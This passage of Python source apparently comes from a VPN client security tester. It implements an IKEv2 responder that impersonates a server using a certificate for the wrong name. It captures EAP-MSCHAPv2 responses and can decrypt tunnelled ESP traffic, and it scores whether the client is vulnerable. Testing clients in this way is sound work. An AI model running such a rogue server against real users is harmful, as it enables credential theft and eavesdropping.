                                self.keys.sk_ar, self.rng.bytes(self.suite.block))
        return self._send(msg, summary)

    def next_request(self, timeout: Optional[float] = None) -> tuple[ike.Header, list[Payload], bytes]:
        deadline = time.monotonic() + (self.phase_timeout if timeout is None else timeout)
        while True:
            left = deadline - time.monotonic()
            got = self.chan.recv(left) if left > 0 else None
            if got is None:
                raise ExchangeTimeout()
            kind, data = got
            if kind == "esp":
                self.esp_queue.append(data)
                continue
            try:
                hdr = ike.Header.decode(data)
            except IkeError:
                continue
            if hdr.version >> 4 != 2 or hdr.spi_i != self.spi_i or hdr.flags & ike.FLAG_V2_RESPONSE:
                continue
            if hdr.msg_id < self.expect_id:
                if data == self._last_in and self._last_out:
                    self.chan.send_ike(self._last_out)
                continue
            self._last_in = data
            payloads = ike.v2_open_sk(data, self.suite, self.keys.sk_ei, self.keys.sk_ai) if self.keys else \
                ike.unchain(hdr.next_payload, data[ike.HEADER_LEN:hdr.length])
            self.expect_id = hdr.msg_id + 1
            for p in payloads:
                if p.ptype == ike.N2:
                    mtype, _ = ike.v2_parse_notify(p.body)
                    if mtype < 16384:
                        name = ike.NOTIFY_NAMES.get(mtype, str(mtype))
                        self.refs["client_notify"] = self.tr.record(Direction.ClientToProbe, "ike",
                                                                    f"client notify {name}", plaintext=False, raw=data)
                        self.respond(hdr.exchange, hdr.msg_id, [], "empty response")
                        raise PeerGone(f"client sent {name}", mtype)
                if p.ptype == ike.D2:
                    self.refs["client_delete"] = self.tr.record(Direction.ClientToProbe, "ike", "client Delete",
                                                                plaintext=False, raw=data)
                    self.respond(hdr.exchange, hdr.msg_id, [], "empty response")
                    raise PeerGone("client deleted the SA")
            return hdr, payloads, data

    # -- IKE_SA_INIT

    def sa_init(self, first: bytes) -> bool:
        hdr = ike.Header.decode(first)
        self.spi_i, self.msg1, self._last_in = hdr.spi_i, first[:hdr.length], first
        self.expect_id = 1
        payloads = ike.unchain(hdr.next_payload, first[ike.HEADER_LEN:hdr.length])
        sa, ke, nonce = (ike.find(payloads, t) for t in (ike.SA2, ike.KE2, ike.NONCE2))
        self.refs["init"] = self.tr.record(Direction.ClientToProbe, "ike", "IKE_SA_INIT request", plaintext=False,
                                           raw=first)
        if sa is None or ke is None or nonce is None:
            raise IkeError("IKE_SA_INIT lacks SA, KE or nonce")
        ke_group = struct.unpack("!H", ke.body[:2])[0]
        choice = None
        for prop in ike.v2_parse_sa(sa.body):
            self.proposal_dump.append(prop.describe())
            if prop.protocol != ike.PROTO_ISAKMP:
                continue
            # prefer the group the client already sent a KE for
            reordered = ike.V2Proposal(prop.number, prop.protocol, prop.spi, sorted(
                prop.transforms, key=lambda t: not (t[0] == ike.T_DH and t[1] == ke_group)))
            choice = ike.v2_choose(reordered)
            if choice:
                break
        if choice is None:
            self.refs["proposal"] = self.tr.record(Direction.LocalObservation, "ike", "no acceptable proposal: " +
                                                   " | ".join(self.proposal_dump), plaintext=False)
            self._send(ike.v2_plain_message(self._header(ike.EX_SA_INIT, 0),
                                            [Payload(ike.N2, ike.v2_notify_body(ike.N2_NO_PROPOSAL_CHOSEN))]),
                       "IKE_SA_INIT: NO_PROPOSAL_CHOSEN")
            return False
        suite, chosen = choice
        if suite.group != ke_group:
            self._send(ike.v2_plain_message(self._header(ike.EX_SA_INIT, 0), [Payload(
                ike.N2, ike.v2_notify_body(ike.N2_INVALID_KE, data=struct.pack("!H", suite.group)))]),
                "IKE_SA_INIT: INVALID_KE_PAYLOAD")
            self.spi_i = b""
            return False
        self.suite = suite
        self.ni, self.nr = nonce.body, self.rng.bytes(32)
        dh = crypto.DhKeyPair(suite.group, self.rng)
        shared = dh.shared(ke.body[4:])
        self.keys = None
        out = [Payload(ike.SA2, ike.v2_sa_body([chosen])),
               Payload(ike.KE2, struct.pack("!HH", suite.group, 0) + dh.public),
               Payload(ike.NONCE2, self.nr),
               Payload(ike.CERTREQ2, bytes([ike.CERT_X509_SIG]))]
        msg = ike.v2_plain_message(self._header(ike.EX_SA_INIT, 0), out)
        self.msg2 = msg
        self._send(msg, f"IKE_SA_INIT response: {suite.encr}{suite.key_len * 8}/{suite.prf}/{suite.integ}/"
                        f"group{suite.group}")
        self.keys = ike.v2_derive(suite, self.ni, self.nr, shared, self.spi_i, self.spi_r)
        return True

    # -- IKE_AUTH

    def _idr_body(self) -> bytes:
        return ike.v2_id_body(ike.ID2_FQDN, self.offer.identity.encode())

    def first_auth(self) -> tuple[str, list[Payload]]:
        """Answers the first IKE_AUTH with certificate, signature and an EAP
        Identity request.  Returns ('eap'|'no-eap', request payloads)."""
        hdr, payloads, raw = self.next_request()
        idi = ike.find(payloads, ike.IDI2)
        if idi is None:
            raise IkeError("IKE_AUTH without IDi")
        self.client_id = idi.body[4:].decode("latin-1")
        idr_req = ike.find(payloads, ike.IDR2)
        wanted = f", asks for IDr {idr_req.body[4:].decode('latin-1')!r}" if idr_req else ""
        self.refs["auth1"] = self.tr.record(Direction.ClientToProbe, "ike",
                                            f"IKE_AUTH request: IDi {self.client_id!r}{wanted}", plaintext=False,
                                            raw=raw)
        self.auth_request = payloads
        if ike.find(payloads, ike.AUTH2) is not None:
            return "no-eap", payloads
        idr = self._idr_body()
        signed = ike.v2_signed_octets(self.msg2, self.ni, self.suite.prf, self.keys.sk_pr, idr)
        sig = tlsutil.rsa_sign(self.offer.certificate, signed)
        cert = tlsutil.cert_der(self.offer.certificate)
        self.eap_id = self.rng.randint(0, 255)
        out = [Payload(ike.IDR2, idr), Payload(ike.CERT2, bytes([ike.CERT_X509_SIG]) + cert),
               Payload(ike.AUTH2, ike.v2_auth_body(ike.AUTH_RSA, sig)),
               Payload(ike.EAP2, ike.eap_packet(ike.EAP_REQUEST, self.eap_id, ike.EAP_IDENTITY))]
        self.refs["cert"] = self.respond(
            ike.EX_AUTH, hdr.msg_id, out,
            f"IKE_AUTH response: IDr {self.offer.identity!r}, certificate CN={self.offer.certificate.subject_name} "
            f"trust_role={self.offer.certificate.trust_role.value}, RSA AUTH, EAP Identity request")
        return "eap", payloads

    def next_eap(self) -> tuple[ike.Header, tuple, bytes]:
        hdr, payloads, raw = self.next_request()
        eap = ike.find(payloads, ike.EAP2)
        if eap is None:
            raise IkeError("IKE_AUTH request without EAP payload")
        return hdr, ike.parse_eap(eap.body), raw


class Ikev2Probe:
    """IKEv2 responder presenting a certified certificate for the wrong name."""

    name = "ikev2"

    def __init__(self, offer, credentials: Optional[Credentials] = None, host: str = "127.0.0.1",
                 port: int = IKE_PORT, connect_timeout: float = 30.0, phase_timeout: float = 10.0,
                 capture_window: float = 5.0, target: str = "ikev2-client", rng: Optional[Randomness] = None):
        if isinstance(offer, CertificateMaterial):
            offer = ServerIdentityOffer(offer)
        self.offer = offer
        self.credentials = credentials
        self.host, self.port = host, port
        self.connect_timeout, self.phase_timeout = connect_timeout, phase_timeout
        self.capture_window = capture_window
        self.target = target
        self.rng = rng or Randomness()
        self.sock = None
        self.session: Optional[Ikev2Session] = None

    def bind(self) -> "Ikev2Probe":
        self.sock = bind_udp(self.host, self.port)
        return self

    @property
    def ports(self) -> dict[str, str]:
        h, p = self.sock.getsockname()[:2]
        return {"udp": f"{h}:{p}"}

    def ready_line(self) -> str:
        return ready_line(self.name, self.ports)

    def _finding(self, verdict: Verdict) -> Finding:
        return Finding(VulnClass.Ikev2ImproperServerVerification, verdict, self.target)

    def serve(self) -> tuple[Finding, Transcript]:
        if self.sock is None:
            self.bind()
        tr = Transcript(prefix="ikev2")
        chan = IkeChannel(self.sock)
        try:
            return self._serve(chan, tr)
        finally:
            close_quietly(self.sock)

    def _serve(self, chan: IkeChannel, tr: Transcript) -> tuple[Finding, Transcript]:
        s = None
        deadline = time.monotonic() + self.connect_timeout
        while True:
            first = _wait_first(chan, tr, max(deadline - time.monotonic(), 0.01), 2)
            if first is None:
                return self._finding(Verdict.inconclusive(f"no IKEv2 traffic within {self.connect_timeout}s")), tr
            s = self.session = Ikev2Session(chan, tr, self.rng, self.offer, self.credentials, self.phase_timeout)
            try:
                if s.sa_init(first):
                    break
            except IkeError as exc:
                return self._finding(Verdict.inconclusive(f"ProtocolError: {exc}")), tr
            if "proposal" in s.refs:
                return self._finding(Verdict.inconclusive("proposal mismatch: " + " | ".join(s.proposal_dump),
                                                          [s.refs["proposal"]])), tr
            # INVALID_KE: the client retries with the requested group
        try:
            kind, _ = s.first_auth()
            if kind == "no-eap":
                return self._finding(Verdict.inconclusive("client authenticates with AUTH instead of EAP",
                                                          [s.refs["auth1"]])), tr
            hdr, (code, ident, etype, data), raw = s.next_eap()
        except PeerGone as exc:
            if exc.notify == ike.N2_AUTHENTICATION_FAILED:
                return self._finding(Verdict.secure("client rejected the server identity (AUTHENTICATION_FAILED)",
                                                    [s.refs["cert"], s.refs["client_notify"]])), tr
            return self._finding(Verdict.secure(f"client aborted after the certificate: {exc}",
                                                [s.refs["cert"]] + [s.refs[k] for k in ("client_notify",
                                                                                        "client_delete")
                                                                    if k in s.refs])), tr
        except ExchangeTimeout:
            ev = [s.refs[k] for k in ("cert",) if k in s.refs]
            return self._finding(Verdict.inconclusive("client went silent during IKE_AUTH", ev)), tr
        except IkeError as exc:
            return self._finding(Verdict.inconclusive(f"ProtocolError: {exc}")), tr
        if code != ike.EAP_RESPONSE:
            return self._finding(Verdict.inconclusive("unexpected EAP packet from client", [s.refs["cert"]])), tr
        identity = data.decode("utf-8", "replace") if etype == ike.EAP_IDENTITY else ""
        s.refs["eap_identity"] = tr.record(Direction.ClientToProbe, "eap",
                                           f"EAP Identity response {identity!r} after the wrong-identity certificate",
                                           plaintext=False, raw=raw)
        notes = [f"client continued with EAP after certificate for {self.offer.identity!r}"]
        ev = [s.refs["cert"], s.refs["eap_identity"]]
        try:
            more = self._eap_mschapv2(s, hdr, identity)
            ev += more
            if s.child_in is not None:
                notes.append("EAP-MSCHAPv2 and AUTH completed; child SA established")
                ping = self._capture_child(s)
                if ping:
                    ev.append(ping)
                    notes.append("ESP traffic decrypted through the child SA")
            elif s.exchange is not None:
                notes.append("EAP-MSCHAPv2 response captured")
        except (PeerGone, ExchangeTimeout, IkeError) as exc:
            tr.record(Direction.LocalObservation, "probe", f"EAP phase ended: {exc or type(exc).__name__}",
                      plaintext=False)
            if s.exchange is not None and "mschapv2" in s.refs:
                ev.append(s.refs["mschapv2"])
        return self._finding(Verdict.vulnerable(ev, "; ".join(notes))), tr

    def _eap_mschapv2(self, s: Ikev2Session, hdr: ike.Header, identity: str) -> list[str]:
        tr = s.tr
        challenge = s.rng.bytes(16)
        ms_id = s.rng.randint(0, 255)
        s.eap_id = (s.eap_id + 1) & 0xFF
        data = mschapv2_eap_data(ike.MSCHAPV2_CHALLENGE, ms_id, bytes([16]) + challenge + b"vpnprobe")
        s.respond(ike.EX_AUTH, hdr.msg_id,
                  [Payload(ike.EAP2, ike.eap_packet(ike.EAP_REQUEST, s.eap_id, ike.EAP_MSCHAPV2, data))],
                  "IKE_AUTH: EAP-MSCHAPv2 Challenge")
        hdr, (code, ident, etype, data), raw = s.next_eap()
        if etype != ike.EAP_MSCHAPV2 or len(data) < 4 + 1 + 49 or data[0] != ike.MSCHAPV2_RESPONSE:
            raise IkeError("client did not answer with an MS-CHAPv2 response")
        value = data[5:5 + 49]
        peer_challenge, nt_resp = value[:16], value[24:48]
        name = data[5 + 49:].decode("utf-8", "replace")
        s.exchange = auth.MsChapV2Exchange(challenge, peer_challenge, name, nt_resp)
        s.refs["mschapv2"] = tr.record(Direction.ClientToProbe, "eap",
                                       "EAP-MSCHAPv2 exchange captured: " + s.exchange.evidence(), plaintext=False,
                                       raw=raw)
        creds = s.credentials
        if creds is None or creds.username != name or not auth.check_nt_response(
                nt_resp, challenge, peer_challenge, name, creds.password):
            s.eap_id = (s.eap_id + 1) & 0xFF
            s.respond(ike.EX_AUTH, hdr.msg_id, [Payload(ike.EAP2, ike.eap_packet(ike.EAP_FAILURE, s.eap_id))],
                      "IKE_AUTH: EAP Failure (no test credentials to complete)" if creds is None
                      else "IKE_AUTH: EAP Failure (response does not verify)")
            return [s.refs["mschapv2"]]
        sresp = auth.authenticator_response(creds.password, nt_resp, peer_challenge, challenge, name)
        s.eap_id = (s.eap_id + 1) & 0xFF
        data = mschapv2_eap_data(ike.MSCHAPV2_SUCCESS, ms_id, f"{sresp} M=Welcome".encode())
        s.respond(ike.EX_AUTH, hdr.msg_id,
                  [Payload(ike.EAP2, ike.eap_packet(ike.EAP_REQUEST, s.eap_id, ike.EAP_MSCHAPV2, data))],
                  "IKE_AUTH: EAP-MSCHAPv2 Success request")
        hdr, (code, ident, etype, data), _ = s.next_eap()
        if etype != ike.EAP_MSCHAPV2 or not data or data[0] != ike.MSCHAPV2_SUCCESS:
            raise IkeError("client did not acknowledge MS-CHAPv2 success")
        s.eap_id = (s.eap_id + 1) & 0xFF
        s.respond(ike.EX_AUTH, hdr.msg_id, [Payload(ike.EAP2, ike.eap_packet(ike.EAP_SUCCESS, s.eap_id))],
                  "IKE_AUTH: EAP Success")
        keys = auth.derive_mppe_keys(creds.password, nt_resp, 128, is_server=True)
        s.msk = eap_mschapv2_msk(keys, server_side=True)

        hdr, payloads, raw = s.next_request()
        auth_p = ike.find(payloads, ike.AUTH2)
        if auth_p is None:
            raise IkeError("final IKE_AUTH without AUTH")
        idi_body = next(p.body for p in s.auth_request if p.ptype == ike.IDI2)
        expect = ike.v2_psk_auth(s.suite.prf, s.msk,
                                 ike.v2_signed_octets(s.msg1, s.nr, s.suite.prf, s.keys.sk_pi, idi_body))
        if not crypto.constant_time_equal(auth_p.body[4:], expect):
            raise IkeError("client AUTH over the MSK does not verify")
        auth_ref = tr.record(Direction.ClientToProbe, "ike", "final IKE_AUTH: client MSK AUTH verifies",
                             plaintext=False, raw=raw)
        ours = ike.v2_psk_auth(s.suite.prf, s.msk,
                               ike.v2_signed_octets(s.msg2, s.ni, s.suite.prf, s.keys.sk_pr, s._idr_body()))
        out = [Payload(ike.AUTH2, ike.v2_auth_body(ike.AUTH_SHARED_KEY, ours))]
        child = self._child_sa(s)
        if child:
            out += child
        ref = s.respond(ike.EX_AUTH, hdr.msg_id, out,
                        "final IKE_AUTH response: AUTH" + (", child SA, TS, CP" if child else ""))
        s.refs["established"] = ref
        return [s.refs["mschapv2"], auth_ref, ref]

    def _child_sa(self, s: Ikev2Session) -> Optional[list[Payload]]:
        sa = next((p for p in s.auth_request if p.ptype == ike.SA2), None)
        if sa is None:
            return None
        for prop in ike.v2_parse_sa(sa.body):
            if prop.protocol != ike.PROTO_ESP or len(prop.spi) != 4:
                continue
            choice = ike.v2_choose(prop, need_dh=False, need_prf=False)
            if choice is None:
                continue
            suite, chosen = choice
            spi_r = s.rng.bytes(4)
            chosen.spi = spi_r
            esp = ike.esp_suite_from_v2(suite)
            i2r, r2i = ike.v2_child_keymat(suite, s.suite.prf, s.keys.sk_d, s.ni, s.nr)
            s.child_in = ike.EspSa.from_keymat(spi_r, esp, i2r)
            s.child_out = ike.EspSa.from_keymat(prop.spi, esp, r2i)
            tsi = next((p.body for p in s.auth_request if p.ptype == ike.TSI2), ike.v2_ts_body())
            tsr = next((p.body for p in s.auth_request if p.ptype == ike.TSR2), ike.v2_ts_body())
            out = [Payload(ike.SA2, ike.v2_sa_body([chosen])), Payload(ike.TSI2, tsi), Payload(ike.TSR2, tsr)]
            if any(p.ptype == ike.CP2 for p in s.auth_request):
                attrs = struct.pack("!HH", ike.CFG2_INTERNAL_IP4_ADDRESS, 4) + ipaddress.IPv4Address(s.inner_ip).packed
                out.append(Payload(ike.CP2, struct.pack("!BBH", ike.CFG2_REPLY, 0, 0) + attrs))
            s.tr.record(Direction.LocalObservation, "esp", f"child SA installed ({esp.describe()}, "
                                                           f"in {spi_r.hex()} out {prop.spi.hex()})", plaintext=False)
            return out
        return None

    def _capture_child(self, s: Ikev2Session) -> Optional[str]:
        deadline = time.monotonic() + self.capture_window
        while time.monotonic() < deadline:
            while not s.esp_queue:
                try:
                    s.next_request(timeout=min(0.2, max(deadline - time.monotonic(), 0.01)))
                except ExchangeTimeout:
                    if time.monotonic() >= deadline:
                        return None
                except PeerGone:
                    return s.refs.get("ping")
            pkt = s.esp_queue.pop(0)
            try:
                nh, inner = s.child_in.decrypt(pkt)
                src, dst, typ, ident, seq, payload = packets.parse_icmp_echo(inner)
            except (IkeError, ValueError) as exc:
                s.tr.record(Direction.ClientToProbe, "esp", f"undecodable ESP packet: {exc}", plaintext=False)
                continue
            if typ != 8:
                continue
            ref = s.tr.record(Direction.ClientToProbe, "esp",
                              f"decrypted ICMP echo {src} -> {dst} ({len(payload)} bytes)", plaintext=True, raw=inner)
            s.refs.setdefault("ping", ref)
            reply = packets.icmp_echo(dst, src, ident, seq, payload, reply=True)
            s.chan.send_esp(s.child_out.encrypt(4, reply, s.rng.bytes(crypto.block_size(s.child_out.suite.encr))))
            s.tr.record(Direction.ProbeToClient, "esp", "ICMP echo reply through the child SA", plaintext=False)
            return ref
        return None


def serve_ikev2_any_identity(offer, credentials: Optional[Credentials] = None, **kwargs) -> tuple[Finding, Transcript]:
    return Ikev2Probe(offer, credentials, **kwargs).serve()
